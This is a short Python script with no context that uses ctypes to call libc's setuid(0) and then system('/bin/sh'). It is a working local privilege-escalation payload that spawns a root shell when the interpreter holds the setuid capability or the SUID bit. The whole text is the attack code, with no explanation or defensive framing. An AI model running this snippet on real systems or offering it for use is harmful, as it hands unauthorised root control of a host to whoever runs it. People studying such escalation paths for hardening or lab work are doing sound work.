from ctypes import CDLL

libc = CDLL("libc.so.6")
libc.setuid(0)
libc.system(b"/bin/sh")
